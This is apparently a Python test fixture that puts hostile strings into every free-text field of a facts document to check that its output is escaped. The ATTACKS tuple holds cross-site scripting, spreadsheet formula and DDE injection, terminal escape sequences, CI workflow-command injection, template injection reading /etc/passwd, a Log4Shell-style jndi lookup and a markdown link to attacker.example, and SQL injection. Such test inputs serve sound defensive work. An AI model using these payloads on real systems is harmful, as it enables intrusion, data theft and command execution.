"""A facts document whose every free text attacks whoever shows it, and one whose every text is of one kind."""

from __future__ import annotations

from copy import deepcopy
from typing import Any, Final

from gl3rules.facts.schema import Kind, checking_schema, kind_of
from gl3rules.source import read
from tests.conftest import EXAMPLES

ATTACKS: Final = (
    "<img src=x onerror=\"document.title='attacked'\">",
    "</script><script>document.title='attacked'</script>",
    "</style></title><svg/onload=document.title='attacked'>",
    '=HYPERLINK("http://attacker.example/","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\x1b]0;attacked\x07\x1b[2J\x1b[31m",
    "::error file=x,line=1::attacked",
    "x\n::set-output name=a::attacked",
    "\u202egnp.exe\u2066attacked\u2069",
    "| a | b |\n|---|---|\n[click](javascript:alert(1)) ![x](http://attacker.example/x.png)",
    "@everyone #1 https://attacker.example <details open>",
    "]]> <!ENTITY x 'attacked'> &amp; &#0; \x00\x01\ufffe",
    "{{ 7*7 }} {% include '/etc/passwd' %} {0} {name} %s ${jndi:ldap://attacker.example}",
    "'; DROP TABLE facts; --",
    "x" * 400,
)
"""Texts that would do harm, or break the output, where they are not escaped."""

_SCHEMA: Final = checking_schema()


def hostile_values(base: str = "clinic-failing.yaml", attacks: tuple[str, ...] = ATTACKS) -> dict[str, Any]:
    """Return an example's values with an attack in place of each free text, in turn."""
    values: dict[str, Any] = deepcopy(read(str(EXAMPLES / base)).documents[0].values)  # type: ignore[arg-type]
    turn = iter(range(1_000_000))

    def attacked(node: dict[str, Any], value: Any) -> Any:  # noqa: ANN401  values of a document have any type
        if "$ref" in node:
            node = _SCHEMA["$defs"][node["$ref"].rpartition("/")[2]]
        if isinstance(value, dict):
            return {name: attacked(node["properties"][name], inner) for name, inner in value.items()}
        if isinstance(value, list):
            return [attacked(node["items"], inner) for inner in value]
        if isinstance(value, str) and kind_of(node) is Kind.TEXT:
            return attacks[next(turn) % len(attacks)][: node.get("maxLength", 500)]
        return value

    changed: dict[str, Any] = attacked(_SCHEMA, values)
    changed["organisation"]["name"] = "".join(attacks)[:200]
    return changed
